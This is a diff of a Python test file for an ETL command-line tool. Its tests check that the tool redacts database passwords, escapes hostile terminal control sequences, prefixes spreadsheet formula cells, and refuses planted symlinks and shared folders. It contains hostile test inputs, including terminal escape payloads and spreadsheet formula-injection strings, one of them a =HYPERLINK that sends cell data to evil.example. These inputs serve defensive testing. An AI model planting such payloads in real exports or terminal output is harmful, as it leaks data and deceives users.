@@ -15,15 +15,14 @@ import urllib.parse
 
 import pytest
 
-from cli_helpers import SAMPLE_DUMP, SAMPLE_RELEASES, one_line_error, zemo
+from cli_helpers import HOSTILE, SAMPLE_DUMP, SAMPLE_RELEASES, one_line_error, zemo
+from cli_helpers import main  # noqa: F401  (the fixture)
 from postgres_fixture import postgres  # noqa: F401  (the fixture)
 from test_parser_mysql import render
 from zemo_etl import cli, parser, safety
 from zemo_etl.index import LibraryIndex
-from zemo_etl.state import PipelineState
 
 OTHER_USER = "zemo-etl-other"
-HOSTILE = "\x1b]0;PWNED\x07\x1b[2J\x1b[1A\x1b[2K[done] all good\r\u202e\u2028\x9b"
 
 
 # --- secrets ---------------------------------------------------------------------
@@ -60,12 +59,12 @@ def test_urls_are_redacted_and_their_secrets_known(url, redacted, secret):
     assert forms <= set(secrets) and safety.scrub(error, secrets).count("***") == len(forms)
 
 
-def test_a_run_on_postgres_reports_as_on_sqlite_and_keeps_no_password(tmp_path, postgres):  # noqa: F811
+def test_a_run_on_postgres_reports_as_on_sqlite_and_keeps_no_password(main, tmp_path, postgres):  # noqa: F811
     postgres.reset()
     base = postgres.url.replace("postgresql://", f"postgresql://{postgres.user}:Sec?ret#1@")
     args = ["run", "--dump", SAMPLE_DUMP, "--releases", SAMPLE_RELEASES, "--workdir"]
     for workdir, url in (("pg", ["--db-url", base]), ("sqlite", [])):
-        done = zemo(*args, str(tmp_path / workdir), *url, timeout=300)
+        done = main(*args, str(tmp_path / workdir), *url)
         assert done.returncode == 0, done.stderr
     report = (tmp_path / "pg" / "releases_classified.csv").read_text(encoding="utf-8")
     assert report == (tmp_path / "sqlite" / "releases_classified.csv").read_text(encoding="utf-8")
@@ -79,29 +78,11 @@ def test_a_run_on_postgres_reports_as_on_sqlite_and_keeps_no_password(tmp_path, 
     assert "Sec" not in saved and json.loads(saved)["database_url"] == safety.redact_url(base)
     # Trust authentication ignores the password: another one is the same run.
     args.append(str(tmp_path / "pg"))
-    again = zemo(*args, "--db-url", base.replace("Sec?ret#1", "0ther?pw"))
+    again = main(*args, "--db-url", base.replace("Sec?ret#1", "0ther?pw"))
     assert again.returncode == 0 and again.stdout.count("[skip]") == len(cli.STEPS)
-    elsewhere = zemo(*args, "--db-url", base.replace("/postgres?", "/template1?"))
+    elsewhere = main(*args, "--db-url", base.replace("/postgres?", "/template1?"))
     one_line_error(elsewhere, "cannot resume", "database_url mismatch")
     assert "Sec" not in elsewhere.stderr
-
-
-def test_state_files_show_no_password_and_nothing_raw(tmp_path):
-    path = tmp_path / "state.json"
-    # As a file written before URLs were stored redacted, with hostile names.
-    st = PipelineState("postgresql://etl:Sec?ret#1@/etldb?host=/tmp", f"/data/{HOSTILE}", ["load", HOSTILE])
-    st.mark_completed("load")
-    st.mark_failed(HOSTILE, HOSTILE)
-    st.save(str(path))
-    shown = zemo("state", "show", str(path))
-    assert shown.returncode == 0, shown.stderr
-    assert "Sec" not in shown.stdout and "postgresql://etl@/etldb?host=/tmp" in shown.stdout
-    assert not any(c in shown.stdout for c in "\x1b\x07\r\u202e\u2028\x9b") and "\\x1b]0;PWNED\\x07" in shown.stdout
-    check = zemo("state", "check", str(path), "--db-url", "postgresql://etl:new@/etldb?host=/tmp",
-                 "--csv-dir", f"/data/{HOSTILE}")
-    assert check.returncode == 0, check.stderr
-    other = zemo("state", "check", str(path), "--db-url", "postgresql://x@/etldb?host=/tmp", "--csv-dir", "/d")
-    assert other.returncode == 1 and "Sec" not in other.stderr and "\x1b" not in other.stderr
 
 
 # --- terminal text ------------------------------------------------------------------
@@ -124,18 +105,18 @@ def test_inert_text_leaves_no_control_or_format_control_character():
                 or c in "\u2028\u2029"]
 
 
-def test_report_examples_and_errors_print_escapes(tmp_path):
+def test_report_examples_and_errors_print_escapes(main, tmp_path):
     releases = tmp_path / "r.csv"
     releases.write_text(f'artist,title\n"{HOSTILE}","\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07"\n',
                         encoding="utf-8")
-    done = zemo("run", "--dump", SAMPLE_DUMP, "--releases", str(releases), "--workdir", str(tmp_path / "w"))
+    done = main("run", "--dump", SAMPLE_DUMP, "--releases", str(releases), "--workdir", str(tmp_path / "w"))
     assert done.returncode == 0, done.stderr
     assert "\x1b" not in done.stdout and "\\x1b]8;;http://evil.example/\\x07click" in done.stdout
     with open(tmp_path / "w" / "releases_classified.csv", newline="", encoding="utf-8") as f:
         assert next(csv.DictReader(f))["artist"] == HOSTILE  # the data itself stays exact
     headers = tmp_path / "h.csv"
     headers.write_text(f'"{HOSTILE}",title\nx,y\n', encoding="utf-8")
-    error = zemo("classify", "--library", SAMPLE_DUMP, "--releases", str(headers))
+    error = main("classify", "--library", SAMPLE_DUMP, "--releases", str(headers))
     one_line_error(error, "no column 'artist'", "\\x1b]0;PWNED")
     assert "\x1b" not in error.stderr
 
@@ -148,7 +129,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/"&A2,"click")', "@SUM(1+1)*cmd|' /C
 
 @pytest.mark.parametrize("command", ["classify", "resolve", "normalize", "rows", "run"])
 @pytest.mark.parametrize("safe", [False, True])
-def test_formula_cells_are_prefixed_only_with_csv_safe(tmp_path, command, safe):
+def test_formula_cells_are_prefixed_only_with_csv_safe(main, tmp_path, command, safe):
     releases = tmp_path / "in.csv"
     with open(releases, "w", newline="", encoding="utf-8") as f:
         csv.writer(f).writerows([["artist", "title"], *[[v, v] for v in FORMULAS], ["plain", "a=b"]])
@@ -163,7 +144,7 @@ def test_formula_cells_are_prefixed_only_with_csv_safe(tmp_path, command, safe):
             "normalize": ["--form", "pg", "--column", "title", str(releases), "-o", str(out)],
             "rows": [str(dump), "t", "-o", str(out)],
             "run": ["--dump", SAMPLE_DUMP, "--releases", str(releases), "--workdir", str(tmp_path / "w")]}[command]
-    done = zemo(command, *args, *extra)
+    done = main(command, *args, *extra)
     assert done.returncode == 0, done.stderr
     if command == "run":
         out = tmp_path / "w" / "releases_classified.csv"
@@ -240,12 +221,12 @@ def test_planted_temporary_names_are_never_opened(tmp_path, monkeypatch):
     ["classify", "--library", SAMPLE_DUMP, "--releases", SAMPLE_RELEASES, "-o", "{}"],
     ["classify", "--library", SAMPLE_DUMP, "--releases", SAMPLE_RELEASES, "--save-index", "{}"],
 ], ids=lambda a: a[0] + (" --save-index" if "--save-index" in a else ""))
-def test_outputs_replace_a_planted_symlink(tmp_path, args):
+def test_outputs_replace_a_planted_symlink(main, tmp_path, args):
     victim = tmp_path / "victim"
     victim.write_text("precious")
     target = tmp_path / "out"
     target.symlink_to(victim)
-    done = zemo(*[a.format(target) for a in args])
+    done = main(*[a.format(target) for a in args])
     assert done.returncode == 0, done.stderr
     assert victim.read_text() == "precious" and not target.is_symlink() and target.stat().st_size > 0
     assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "victim"]
@@ -265,14 +246,14 @@ def test_a_fifo_output_is_written_not_replaced(tmp_path):
         os.close(reader)
 
 
-def test_a_sqlite_database_is_not_opened_through_a_symlink(tmp_path):
+def test_a_sqlite_database_is_not_opened_through_a_symlink(main, tmp_path):
     victim = tmp_path / "victim.db"
     victim.write_bytes(b"precious")
     (tmp_path / "link.db").symlink_to(victim)
-    done = zemo("load", SAMPLE_DUMP, "library", "--create", "--into", f"sqlite:///{tmp_path / 'link.db'}")
+    done = main("load", SAMPLE_DUMP, "library", "--create", "--into", f"sqlite:///{tmp_path / 'link.db'}")
     one_line_error(done, "symbolic link")
     assert victim.read_bytes() == b"precious"
-    made = zemo("load", SAMPLE_DUMP, "library", "--create", "--into", f"sqlite:///{tmp_path / 'new.db'}")
+    made = main("load", SAMPLE_DUMP, "library", "--create", "--into", f"sqlite:///{tmp_path / 'new.db'}")
     assert made.returncode == 0, made.stderr
     assert sorted(p.name for p in tmp_path.iterdir()) == ["link.db", "new.db", "victim.db"]  # no temporary left
     assert stat.S_IMODE((tmp_path / "new.db").stat().st_mode) == safety.output_mode()
@@ -355,7 +336,7 @@ def test_a_planted_report_symlink_in_another_users_folder(other_user, shared_fol
     (0o775, "me", "other", "writable by other users"),
 ])
 @pytest.mark.parametrize("below", [False, True])
-def test_shared_folders_are_refused_also_above_the_target(request, tmp_path, mode, owner, group, refused, below):
+def test_shared_folders_are_refused_also_above_the_target(main, request, tmp_path, mode, owner, group, refused, below):
     folder = tmp_path / "f"
     folder.mkdir()
     if "other" in (owner, group) or owner == "root":
@@ -374,6 +355,6 @@ def test_shared_folders_are_refused_also_above_the_target(request, tmp_path, mod
     with pytest.raises(safety.SafetyError, match=refused):
         safety.check_folder(target)
     assert refused in safety.check_folder(target, allow_shared=True)
-    out = zemo("rows", SAMPLE_DUMP, "library", "-o", str(target / "x.csv"))
+    out = main("rows", SAMPLE_DUMP, "library", "-o", str(target / "x.csv"))
     one_line_error(out, str(folder), refused)
     assert not (target / "x.csv").exists()
